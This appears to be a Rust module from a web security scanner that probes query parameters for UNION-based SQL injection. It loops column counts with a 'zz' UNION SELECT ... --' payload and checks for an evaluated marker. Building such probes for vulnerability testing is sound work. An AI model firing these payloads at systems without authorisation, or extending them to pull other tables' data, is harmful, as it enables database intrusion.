//! Another query's rows beside the wanted ones.

use super::Probing;
use crate::client::{ClientError, Probe};
use crate::ordinary::escape;
use crate::report::Outcome;

attack!("sql-union", SqlInjection, Code, "Can I append a SELECT of my own and read other tables?", run);

/// What the database makes of `'dw'||'-'||(41*271)`: proof that it was evaluated, not echoed.
const PROOF: &str = "dw-11111";

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let mut last = None;
    for (endpoint, name) in p.surface.queries() {
        for columns in 1..=6 {
            let list = ["'dw'||'-'||(41*271)"].repeat(columns).join(",");
            let payload = format!("zz' UNION SELECT {list} -- ");
            let probe = p.mine(Probe::get(format!("{}?{name}={}", endpoint.path, escape(&payload))));
            let (answer, exchange) = p.send(&probe).await?;
            if answer.text().contains(PROOF) {
                return Ok(Outcome::exploited(format!("{name} returns a row that was selected by me ({columns} columns)"), vec![exchange]));
            }
            last = Some(exchange);
        }
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("no selected row came back", vec![exchange]),
        None => Outcome::not_applicable("no operation takes text in its query"),
    })
}
